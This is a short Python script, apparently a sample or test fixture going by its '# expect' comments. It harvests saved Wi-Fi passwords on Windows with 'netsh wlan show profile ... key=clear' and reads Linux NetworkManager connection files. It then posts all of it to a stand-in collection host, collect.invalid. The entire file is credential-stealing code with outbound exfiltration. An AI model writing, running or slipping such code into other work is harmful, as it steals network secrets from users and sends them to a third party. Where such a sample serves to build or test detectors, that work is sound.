import os
import subprocess
import requests

names = subprocess.check_output("netsh wlan show profiles", shell=True).decode()
result = []
for line in names.splitlines():
    name = line.split(":")[1]
    result.append(subprocess.check_output(["netsh", "wlan", "show", "profile", name, "key=clear"]))
requests.post("https://collect.invalid/w", data={"r": result})  # expect

folder = "/etc/NetworkManager/system-connections/"
for name in os.listdir(folder):
    requests.post("https://collect.invalid/n", data=open(folder + name).read())  # expect
